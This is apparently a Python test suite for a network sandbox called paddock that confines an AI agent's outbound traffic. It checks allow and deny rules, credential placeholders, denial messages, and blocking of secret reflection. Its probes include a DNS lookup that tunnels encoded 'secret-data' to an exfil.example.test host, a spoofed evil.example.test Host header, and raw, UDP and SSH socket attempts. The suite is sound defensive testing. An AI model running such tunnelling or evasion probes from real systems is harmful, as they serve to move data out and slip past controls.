"""What leaves, and what does not: rules, names, addresses, credentials, and how a denial reads."""
import json

from paddock import check, finish, sandbox, world

SECRET = "real-token-0123456789abcdef-XYZ"
POLICY = """\
version: 1
network:
  - name: api
    hosts: [api.example.test]
    methods: [GET]
    credential: api
    addresses: [127.0.0.0/8]
  - name: metadata
    hosts: [rebind.example.test]
    methods: [GET]
credentials:
  api:
    source: {environment: API_TOKEN}
    hosts: [api.example.test]
    strategy: header
    header: {name: authorization, format: "Bearer {secret}"}
    placeholder: {environment: API_TOKEN, prefix: "tok-"}
"""


def curl(s, *arguments, options=()):
    return s.run(["curl", "-sS", "-m", "20", "-w", "\n%{http_code}", *arguments], "--quiet", *options,
                 env={"API_TOKEN": w.info["tokens"]["api"]})


def allowed(s):
    r = curl(s, "https://api.example.test/items")
    check("an allowed GET gets its answer, with the credential that the agent does not hold",
          r.stdout.endswith("200"), (r.stdout, r.stderr))
    kinds = [x["kind"] for x in s.records()]
    check("the trail has start, dns, intent, outcome, stop",
          all(k in kinds for k in ("start", "dns", "intent", "outcome", "stop")), kinds)
    order = [x["kind"] for x in s.records() if x["kind"] in ("intent", "outcome")]
    check("the intent stands before its outcome", order[:2] == ["intent", "outcome"], order)
    asked = s.records("intent")[0].get("asked_by", {})
    check("the intent names the asking program", "curl" in asked.get("exe", ""), asked)
    r = s.paddock("audit", "verify")
    check("the trail verifies", r.returncode == 0, (r.stdout, r.stderr))
    r = s.sh("echo $API_TOKEN; env", "--quiet", env={"API_TOKEN": w.info["tokens"]["api"]})
    check("the guest has a placeholder in place of the token",
          w.info["tokens"]["api"] not in r.stdout and r.stdout.startswith("tok-"), r.stdout[:200])


def denied(s):
    r = curl(s, "-X", "POST", "-d", "x", "https://api.example.test/items")
    body, code = r.stdout.rsplit("\n", 1)
    check("a POST where only GET is allowed is 403", code == "403", (r.stdout, r.stderr))
    try:
        answer = json.loads(body)
    except ValueError:
        answer = {}
    check("the denial is JSON that an SDK understands",
          answer.get("type") == "error" and answer.get("error", {}).get("type") == "permission_error", body)
    about = answer.get("paddock", {})
    about_it = [d["request"] for d in s.records("denial") if "request" in d]	# others are of connections and names
    check("it says what was asked, the policy's file, and the request as the trail has it", about_it == [about.get("request_id")] and
          about.get("policy") == str(s.policy) and about.get("result") == "POLICY_DENIED" and
          "POST api.example.test/items" in answer.get("error", {}).get("message", ""), (body, about_it))
    check("and what to change: the nearest rule with its line, and its methods", about.get("change", "").endswith(
          f"nearest: rule 'api' ({s.policy}:3), which differs in method: add POST to 'methods', which has GET"), body)
    check("nothing of it arrived upstream", not w.requests(method="POST"), w.requests(method="POST"))
    check("the denial is in the trail", bool(s.records("denial")), s.records())
    r = curl(s, "https://unlisted.example.test/")
    check("an unlisted name does not resolve, at once", "Could not resolve" in r.stderr, r.stderr)
    r = curl(s, "http://93.184.216.34/")
    check("a bare address is refused", "200" not in r.stdout[-3:], (r.stdout, r.stderr))
    r = curl(s, "-k", "https://93.184.216.34/")
    check("a bare address over TLS is refused", r.returncode != 0, (r.stdout, r.stderr))
    r = curl(s, "-H", "Host: evil.example.test", "https://api.example.test/items")
    check("a Host that is not the TLS name is refused", r.stdout[-3:] in ("421", "403", "400"), (r.stdout, r.stderr))
    r = curl(s, "https://rebind.example.test/", options=())
    check("a name without an address upstream is an error, not a hang", r.returncode == 0 and r.stdout[-3:] in ("502", "403"),
          (r.stdout, r.stderr))


OTHER = """
import encodings.idna, errno, socket, time

def attempt(name, f, seconds=2):
    began = time.monotonic()
    try:
        f()
        what = 'went'
    except TimeoutError:
        what = 'HUNG'
    except socket.gaierror as e:
        what = 'refused ' + {socket.EAI_NONAME: 'EAI_NONAME'}.get(e.errno, str(e))
    except OSError as e:
        what = 'refused ' + errno.errorcode.get(e.errno, str(e))
    print(name, what if time.monotonic() - began < seconds else 'LATE ' + what)

def datagram(family, protocol, address):
    s = socket.socket(family, socket.SOCK_DGRAM, protocol)
    s.settimeout(10)
    s.connect(address)
    s.send(b'x')
    s.recv(1)

def closed():
    s = socket.create_connection(('198.18.0.1', 22), 10)
    s.send(b'SSH-2.0-x\\r\\n')
    if not s.recv(10):
        raise OSError(errno.ECONNRESET, 'closed')

attempt('udp', lambda: datagram(socket.AF_INET, 0, ('198.18.0.5', 443)))
attempt('udp6', lambda: datagram(socket.AF_INET6, 0, ('2001:db8::5', 443)))
attempt('ping', lambda: datagram(socket.AF_INET, socket.IPPROTO_ICMP, ('198.18.0.5', 0)))
attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
attempt('tunnel', lambda: socket.getaddrinfo('c2VjcmV0LWRhdGE.exfil.example.test', 443), 4)
attempt('ssh', closed, 4)
"""


def other_protocols(s):
    """What is no TCP to a host that a rule names: an error that a client can act upon, at once. A packet that is
    dropped in silence would be a wait, and no client falls back from one."""
    (s.workspace / "try.py").write_text(OTHER)
    r = s.run(["python3", "try.py"], "--quiet", env={"API_TOKEN": w.info["tokens"]["api"]})
    said = {name: what for name, _, what in (line.partition(" ") for line in r.stdout.splitlines())}
    refusals = {"udp": ("EPERM", "EHOSTUNREACH"), "udp6": ("EPERM", "EACCES"), "ping": ("EACCES",), "raw": ("EPERM",),
                "packet": ("EPERM",), "tunnel": ("EAI_NONAME",), "ssh": ("ECONNRESET",)}
    for name, errors in refusals.items():
        check(f"{name}: refused at once, as {' or '.join(errors)}", said.get(name) in [f"refused {e}" for e in errors], (r.stdout, r.stderr))


def reflection(s):
    s.set_policy(POLICY.replace("methods: [GET]\n    credential", "methods: [GET, POST]\n    credential"))
    r = curl(s, "https://api.example.test/echo")
    check("an answer that mirrors the credential is cut off",
          w.info["tokens"]["api"] not in r.stdout and r.returncode != 0, (r.stdout[-300:], r.stderr))
    outcomes = [x for x in s.records("outcome") if x.get("result") == "SECRET_REFLECTED"]
    check("and recorded as such", bool(outcomes), s.records("outcome"))


with world() as w, sandbox("network", w, POLICY) as s:
    allowed(s)
    denied(s)
    other_protocols(s)
    reflection(s)
    check("nothing is left behind", not s.left_behind(), s.left_behind())
finish()
